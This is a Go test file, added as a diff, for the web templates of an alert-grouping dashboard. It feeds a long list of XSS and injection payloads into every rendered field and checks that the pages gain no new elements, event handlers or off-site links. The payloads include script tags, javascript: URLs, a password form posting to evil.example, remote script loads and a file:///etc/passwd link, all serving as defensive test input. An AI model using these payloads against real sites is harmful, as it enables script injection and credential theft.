@@ -1,0 +1,203 @@
+package templates
+
+import (
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/net/html"
+
+	"muster/grouping"
+)
+
+// hostile are strings that break out of something somewhere.
+var hostile = []string{
+	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
+	`<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/src=data:,alert(1)>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`,
+	`"><img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`,
+	` onfocus=alert(1) autofocus `, `" autofocus onfocus=alert(1) x="`, "` onclick=alert(1) `", `<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `<style>*{display:none}</style>`,
+	`</pre></code></main></body></html><h1>owned</h1>`, `<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`,
+	`<embed src="javascript:alert(1)">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
+	`<form action=//evil.example><input name=password>`, `<button formaction=javascript:alert(1)>x`, `<details open ontoggle=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
+	`<!--<script>alert(1)</script>-->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`, `]]><script>alert(1)</script>`,
+	`{{.}}`, `{{template "main" .}}`, `{{printf "%s" "<script>"}}`, `${alert(1)}`,
+	`<%= 7*7 %>`, `#{7*7}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
+	`&quot; onclick=alert(1) &quot;`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)",
+	"\x01javascript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`,
+	`/\evil.example/x`, `\\evil.example\x`, `https://user:pw@evil.example/`, `http://`,
+	`https:///evil.example`, `http:evil.example`, `https://evil.example/"onclick="alert(1)`, `https://evil.example/</a><script>alert(1)</script>`,
+	`https://evil.example/?a=b&c=d#" onclick="x`, `file:///etc/passwd`, `blob:https://evil.example/1`, "https://evil.example/\r\nX: 1",
+	"\u202eevil\u202c", "\u2066\u200fltr\u2069", "\x00<script>alert(1)</script>", "a\x00b",
+	"line\u2028sep\u2029par", "\ufeff<script>", "\xff\xfe<script>\xc3", "\xc0\xbcscript\xc0\xbe",
+	`expression(alert(1))`, `url(javascript:alert(1))`, `;background:url(//evil.example)`, `+ADw-script+AD4-alert(1)`,
+	`" style="position:fixed;inset:0`, `"><style>@import '//evil.example'</style>`, `x" data-copy="y`, `x" data-key="z" id="main`,
+	strings.Repeat("A", 20000), strings.Repeat("<b>", 2000), strings.Repeat("é", 300), "\n\r\t", "",
+}
+
+// parts are the elements and attributes of a page.
+func parts(t *testing.T, page string) (elements, attrs map[string]bool, hrefs []string) {
+	t.Helper()
+	doc, err := html.Parse(strings.NewReader(page))
+	require.NoError(t, err)
+	elements, attrs = map[string]bool{}, map[string]bool{}
+	for n := range doc.Descendants() {
+		switch n.Type {
+		case html.CommentNode:
+			t.Errorf("a comment: %q", n.Data)
+		case html.ElementNode:
+			elements[n.Data] = true
+			for _, a := range n.Attr {
+				attrs[n.Data+" "+a.Key] = true
+				if a.Key == "href" || a.Key == "src" || a.Key == "action" {
+					hrefs = append(hrefs, a.Val)
+				}
+			}
+		}
+	}
+	return elements, attrs, hrefs
+}
+
+// hostileGroup holds s in each of its fields.
+func hostileGroup(s string) (*grouping.AlertGroup, []grouping.Event) {
+	all := grouping.Labels{}
+	for _, name := range []string{
+		"alertname", "severity", "pod", "namespace", "summary", "description", "message", "runbook_url", "dashboard", "dashboard_url", "grafana_url", s,
+	} {
+		all[name] = s
+	}
+	key := grouping.Key{Source: s, Receiver: s, GroupKey: s}
+	g := grouping.AlertGroup{ID: key.ID(), Meta: grouping.Meta{
+		Key: key, GroupLabels: all, CommonLabels: all, CommonAnnotations: all, RouteLabels: all, ExternalURL: s, LastReason: s,
+		CreatedAt: night.Add(-time.Hour), UpdatedAt: night, LastNotifiedAt: night.Add(-time.Minute), Truncated: 1, Stale: true, Settling: true, Stamp: "x",
+	}}
+	var events []grouping.Event
+	for i, status := range []grouping.Status{grouping.StatusFiring, grouping.StatusFiring, grouping.StatusResolved, grouping.StatusUnreported} {
+		own := grouping.Labels{"pod": fmt.Sprint(i) + s}
+		for name, value := range all {
+			if name != "pod" {
+				own[name] = value
+			}
+		}
+		a := &grouping.Alert{
+			Fingerprint: grouping.Fingerprint(fmt.Sprintf("%016x", i)), Status: status, Labels: own, Annotations: own, GeneratorURL: s, ReportedBy: s,
+			StartsAt: night.Add(-time.Hour), ChangedAt: night.Add(-time.Minute), Disputed: true,
+		}
+		if status == grouping.StatusResolved {
+			a.EndsAt = night.Add(-time.Minute)
+		}
+		g.Alerts = append(g.Alerts, a)
+		for _, kind := range grouping.EventKinds() {
+			events = append(events, grouping.Event{
+				ID: s + fmt.Sprint(len(events)), Time: night.Add(-time.Minute), Kind: kind, GroupID: g.ID, Source: s, Receiver: s,
+				Fingerprint: a.Fingerprint, Labels: own, Reason: s, ExternalURL: s,
+			})
+		}
+	}
+	return grouping.NewAlertGroup(g), events
+}
+
+func hostilePages(s string) map[string]Page {
+	g, events := hostileGroup(s)
+	noName, _ := hostileGroup(s)
+	bare := *noName
+	bare.GroupLabels = grouping.Labels{"team": s, "x" + s: s}
+	noName = grouping.NewAlertGroup(bare)
+	groups := []*grouping.AlertGroup{g, noName}
+	site := newSite(groups)
+	site.Version, site.Storage.Mode, site.Storage.Reason, site.Storage.DegradedSince, site.Storage.Healthy = s, s, s, night, false
+	site.Summary.Heartbeat = Heartbeat{Name: s, At: night, Quiet: true}
+	site.Links.External = "https://muster.example.net"
+	q := func(name string) View {
+		return ParseView(map[string][]string{name: {s}, "receiver": {s}, "source": {s}})
+	}
+	list := func(v View) Page {
+		return NewGroupsPage(site, v, grouping.GroupPage{Groups: groups, Total: 2, Next: s})
+	}
+	by := q("by")
+	by.By = append(by.By, "pod", s)
+	return map[string]Page{
+		"list":     list(View{State: ViewFiring, Sort: grouping.SortSeverity}),
+		"filter":   list(q("filter")),
+		"matcher":  list(View{State: ViewAll}.with(equals(s, s))),
+		"by":       NewByPage(site, by, groups),
+		"byall":    NewByPage(site, View{State: ViewAll, By: []string{"pod", s}}, groups),
+		"empty":    NewGroupsPage(site, q("filter"), grouping.GroupPage{}),
+		"group":    NewGroupPage(site, GroupView{Range: s}, g, events),
+		"noname":   NewGroupPage(site, GroupView{Range: "7d"}, noName, events),
+		"alert":    NewAlertPage(site, g.Alerts[0].Fingerprint, groups, events),
+		"history":  NewHistoryPage(site, ParseHistoryView(map[string][]string{"filter": {s}, "kind": {s}, "group": {s}, "alert": {s}, "at": {s}, "cursor": {s}}), grouping.EventPage{Events: events, Next: s}),
+		"historym": NewHistoryPage(site, HistoryView{Matchers: q("filter").with(equals(s, s)).Matchers, Group: grouping.ID(s), Fingerprint: grouping.Fingerprint(s)}, grouping.EventPage{}),
+		"status": NewStatusPage(site, StatusInput{
+			Stats: grouping.Stats{Receivers: map[string]int{s: 1}, Sources: map[string]grouping.SourceStats{s: {Alertmanagers: map[string]time.Time{s: night}}}},
+			Build: []Fact{{s, s}}, Settings: []Fact{{s, s}}, Limits: []Limit{{s, s, 1}}, Rejected: []Rejection{{night, s, 400, s}},
+		}),
+		"help":  NewHelpPage(site),
+		"gone":  NewGonePage(site, grouping.ID(s), grouping.Fingerprint(s), events),
+		"error": NewErrorPage(site, http.StatusBadRequest, s),
+	}
+}
+
+// Whatever a field holds, it makes no element and no attribute that the
+// templates do not make themselves, and no link that is no link.
+func TestHostileStrings(t *testing.T) {
+	require.Greater(t, len(hostile), 60)
+	r := newRenderer(t)
+	elements, attrs := map[string]bool{}, map[string]bool{}
+	learn := func(p Page) {
+		es, as, _ := parts(t, render(t, r, p))
+		for e := range es {
+			elements[e] = true
+		}
+		for a := range as {
+			attrs[a] = true
+		}
+	}
+	for _, p := range states(t) {
+		learn(p)
+	}
+	for _, p := range hostilePages("harmless") {
+		learn(p)
+	}
+	delete(elements, "style")
+	for _, s := range hostile {
+		for name, p := range hostilePages(s) {
+			es, as, hrefs := parts(t, render(t, r, p))
+			for e := range es {
+				if !elements[e] {
+					t.Errorf("%s: %.60q makes an element %q", name, s, e)
+				}
+			}
+			for a := range as {
+				if !attrs[a] || strings.Contains(a, " on") || strings.HasSuffix(a, " style") {
+					t.Errorf("%s: %.60q makes an attribute %q", name, s, a)
+				}
+			}
+			for _, href := range hrefs {
+				own := strings.HasPrefix(href, "/am/") || strings.HasPrefix(href, "#")
+				outside := strings.HasPrefix(href, "https://evil.example/") || strings.HasPrefix(href, "https://prometheus.example.net/")
+				if !own && !outside || strings.HasPrefix(href, "//") {
+					t.Errorf("%s: %.60q makes a link to %.80q", name, s, href)
+				}
+			}
+		}
+	}
+}
+
+func TestWebLink(t *testing.T) {
+	for s, want := range map[string]bool{
+		"https://runbooks.example.net/a?b=c#d": true, "http://10.0.0.1:9090/graph": true, "https://[::1]:9090/": true, "HTTPS://x.example/": true,
+		"": false, "javascript:alert(1)": false, "java\tscript:alert(1)": false, "//evil": false, `/\evil`: false, "/path": false,
+		"https://": false, "https://:80/": false, "http:x": false, "https://user:pw@evil/": false, "https://user@evil/": false,
+		"data:text/html,x": false, "https://a b/": false, "https://a\\b/": false, "https://a/\x00": false, "ftp://a/": false,
+		"https://a/" + strings.Repeat("x", 100<<10): false,
+	} {
+		_, ok := webLink(s)
+		assert.Equal(t, want, ok, "%.60q", s)
+	}
+}
